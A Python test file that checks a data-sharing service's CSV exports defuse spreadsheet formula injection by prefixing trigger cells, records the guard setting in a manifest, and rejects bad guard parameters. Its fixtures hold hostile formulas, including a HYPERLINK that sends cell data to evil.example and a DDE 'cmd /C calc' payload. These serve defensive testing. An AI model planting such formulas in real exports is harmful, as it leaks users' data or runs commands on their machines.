"""CSV exports guard against spreadsheet formula injection (OWASP "CSV injection"): a text cell
beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``; on
by default, ``csv_formula_guard=false`` turns it off; the manifest says which, and its SHA-256
is that of the bytes actually sent."""

from __future__ import annotations

import csv
import hashlib
import io
from collections.abc import AsyncIterator, Iterable, Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hub.sharing.enforce import GrantScope, plan_query
from hub.sharing.export import FORMULA_TRIGGERS, guard_formula, stream_export
from tests.sharing.kit import AiohttpClient, Sharing, approved_grant, licence, start_sharing

SCOPE = GrantScope(dataset="licence", fields=("id", "name", "amount", "ok", "meta"), grant_id="g-7")

#: text cells a spreadsheet would run, and what the guarded CSV holds instead
HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"点击")': '\'=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1,2)": "'@SUM(1,2)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
}
HARMLESS = ["", "杭州=公司", "a-b", "'already quoted", " =1", "1e3"]


async def _aiter(rows: Iterable[Mapping[str, Any]]) -> AsyncIterator[Mapping[str, Any]]:
    for r in rows:
        yield r


async def _export(rows: list[dict[str, Any]], **kw: Any) -> tuple[bytes, dict[str, Any]]:
    stream = stream_export(_aiter(rows), plan_query(SCOPE), "csv", **kw)
    body = b"".join([c async for c in stream])
    return body, stream.manifest()


def _cells(body: bytes, column: int = 1) -> list[str]:
    table = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    return [row[column] for row in table[1:]]


async def test_text_cells_starting_a_formula_are_prefixed_by_default() -> None:
    texts = [*HOSTILE, *HARMLESS]
    rows = [{"id": str(i), "name": t, "amount": -3.5, "ok": True} for i, t in enumerate(texts)]
    body, manifest = await _export(rows)
    assert _cells(body) == [*HOSTILE.values(), *HARMLESS]
    # numbers stay numbers (a negative number is not a formula), booleans unchanged
    assert set(_cells(body, 2)) == {"-3.5"} and set(_cells(body, 3)) == {"true"}
    assert manifest["csv_formula_guard"] is True
    assert manifest["sha256"] == hashlib.sha256(body).hexdigest()
    assert manifest["bytes"] == len(body) and manifest["count"] == len(rows)


async def test_the_guard_can_be_turned_off_and_the_manifest_says_so() -> None:
    rows = [{"id": str(i), "name": t} for i, t in enumerate(HOSTILE)]
    body, manifest = await _export(rows, csv_formula_guard=False)
    assert _cells(body) == list(HOSTILE)
    assert manifest["csv_formula_guard"] is False
    assert manifest["sha256"] == hashlib.sha256(body).hexdigest()


async def test_json_lines_are_never_altered_and_say_nothing_of_the_guard() -> None:
    rows = [{"id": "1", "name": "=1+1"}]
    stream = stream_export(_aiter(rows), plan_query(SCOPE), "jsonl")
    body = b"".join([c async for c in stream])
    assert body == b'{"id":"1","name":"=1+1"}\n'
    assert "csv_formula_guard" not in stream.manifest()


@given(st.text(max_size=30))
def test_guard_formula_prefixes_exactly_the_triggers(text: str) -> None:
    guarded = guard_formula(text)
    if text[:1] in FORMULA_TRIGGERS:
        assert guarded == "'" + text
    else:
        assert guarded == text
    assert not guarded.startswith(FORMULA_TRIGGERS)


# ------------------------------------------------------------------ through the HTTP API


@pytest.fixture
async def s(tmp_path: Path, aiohttp_client: AiohttpClient) -> AsyncIterator[Sharing]:
    async for x in start_sharing(tmp_path, aiohttp_client):
        yield x


async def _download(s: Sharing, query: str) -> tuple[int, bytes, dict[str, Any] | None]:
    """(status, the bytes received, the manifest named by the Link header or None)."""
    r = await s.client.get(f"/v1/data/licenses/export?{query}", headers=s.auth("requester"))
    body = bytearray()
    async for chunk in r.content.iter_chunked(1024):
        body += chunk
    if r.status != 200:
        return r.status, bytes(body), None
    st, manifest, _ = await s.call("GET", r.headers["Link"].split(";")[0].strip("<>"), "requester")
    assert st == 200, manifest
    return r.status, bytes(body), manifest


async def test_csv_downloads_are_guarded_and_the_manifest_hashes_the_bytes_sent(
    s: Sharing,
) -> None:
    await approved_grant(s)
    # ingest trims leading white space, so a tab or CR never reaches the store (the unit tests
    # above cover them)
    names = [n for n in HOSTILE if not n[0].isspace()]
    records = [dict(licence(i + 1), name=n) for i, n in enumerate(names)]
    records[0]["status"] = "@cmd"
    records[1]["legal_person"] = "=cmd"  # masked first (mask name: "=***"), then guarded
    await s.send(records)
    fields = "license_no,name,status,legal_person"

    st, body, manifest = await _download(s, f"format=csv&fields={fields}")
    assert st == 200 and manifest is not None
    table = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    assert table[0] == fields.split(",")
    by_no = {row[0]: row for row in table[1:]}
    assert [by_no[r["license_no"]][1] for r in records] == [HOSTILE[n] for n in names]
    assert by_no[records[0]["license_no"]][2] == "'@cmd"
    assert by_no[records[1]["license_no"]][3] == "'=***"
    assert manifest["csv_formula_guard"] is True and manifest["count"] == len(records)
    assert manifest["sha256"] == hashlib.sha256(body).hexdigest()
    assert manifest["bytes"] == len(body) and manifest["complete"] is True

    # turned off on request: the raw values, and the manifest says so (and still matches)
    st, raw, manifest = await _download(s, f"format=csv&fields={fields}&csv_formula_guard=false")
    assert st == 200 and manifest is not None
    table = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert sorted(row[1] for row in table[1:]) == sorted(names)
    assert manifest["csv_formula_guard"] is False
    assert manifest["sha256"] == hashlib.sha256(raw).hexdigest() != hashlib.sha256(body).hexdigest()


@pytest.mark.parametrize(
    "query",
    ["format=csv&csv_formula_guard=maybe", "format=jsonl&csv_formula_guard=true"],
)
async def test_a_bad_guard_parameter_is_refused_naming_it(s: Sharing, query: str) -> None:
    await approved_grant(s)
    st, body, _ = await _download(s, query)
    assert st == 400
    assert b'"code":"E_PARAM"' in body and b'"field":"csv_formula_guard"' in body
